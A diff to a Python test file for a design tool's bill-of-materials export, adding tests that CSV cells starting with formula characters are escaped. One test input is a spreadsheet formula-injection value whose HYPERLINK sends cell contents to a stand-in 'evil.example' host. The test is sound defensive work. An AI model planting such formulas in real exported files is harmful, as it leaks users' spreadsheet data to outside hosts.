@@ -11,7 +11,7 @@ import numpy as np
 import pytest
 from openpyxl import load_workbook
 
-from designer.io import project_file
+from designer.io import atomic_write
 from designer.io.catalog_io import load_catalog
 from designer.io.export_bom import (
     BOM_HEADER,
@@ -254,7 +254,7 @@ def test_failed_write_keeps_the_old_file_and_leaves_no_temp(tmp_path: Path, monk
     def refuse(src: str, dst: str) -> None:
         raise PermissionError(13, "Permission denied")
 
-    monkeypatch.setattr(project_file.os, "replace", refuse)
+    monkeypatch.setattr(atomic_write.os, "replace", refuse)
     with pytest.raises(OSError, match=r"cannot write the component schedule .*schedule\.csv: Permission denied"):
         write_schedule_csv(schedule(), path)
     monkeypatch.undo()
@@ -295,4 +295,35 @@ def test_hostile_text_stays_text(tmp_path: Path) -> None:
     assert table.cell(3, 8).value is None  # infinity: empty
     write_schedule_csv(rows, tmp_path / "s.csv")
     with (tmp_path / "s.csv").open(newline="", encoding="utf-8") as stream:
-        assert [r["Label"] for r in csv.DictReader(stream)] == ['=HYPERLINK("http://x")', "bell\x07 and ?"]
+        # a spreadsheet would run the formula: the CSV cell starts with ' (the XLSX cell is typed as text)
+        assert [r["Label"] for r in csv.DictReader(stream)] == ['\'=HYPERLINK("http://x")', "bell\x07 and ?"]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_bom_csv_escapes_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path, start: str) -> None:
+    """Issue 14 item 11: a catalog name ``=HYPERLINK(...)`` went into the BOM CSV unescaped."""
+    name = f'{start}HYPERLINK("http://evil.example/?x="&A1, "click")'
+    row = BomRow("x", name, "power", "ups", 1, 10.0, 10.0, 5.0, 5.0, "600 x 600", "@source", "E")
+    write_bom_csv([row], tmp_path / "bom.csv", include_totals=False)
+    with (tmp_path / "bom.csv").open(newline="", encoding="utf-8") as stream:
+        record = next(csv.DictReader(stream))
+    assert record["Name"] == "'" + name
+    assert record["Source"] == "'@source"
+    assert record["Catalog id"] == "x"  # ordinary text is left alone
+
+
+def test_xlsx_lists_the_references_its_rows_cite(tmp_path: Path) -> None:
+    from designer.io.catalog_io import load_catalog
+    from designer.io.export_bom import REFERENCES_SHEET, bom_references
+    from designer.io.project_file import load_project
+    from designer.io.resources import examples_dir
+
+    catalog = load_catalog(include_user=False)
+    rows = bill_of_materials(load_project(examples_dir() / "retrofit.dcplan", catalog), catalog)
+    citations = bom_references(rows)
+    assert citations and all("(not in the bibliography)" not in line for line in citations)
+    path = tmp_path / "bom.xlsx"
+    write_bom_xlsx(rows, path)
+    workbook = load_workbook(path)
+    assert workbook.sheetnames == [BOM_SHEET, REFERENCES_SHEET]
+    assert [c.value for c in workbook[REFERENCES_SHEET]["A"]][1:] == citations
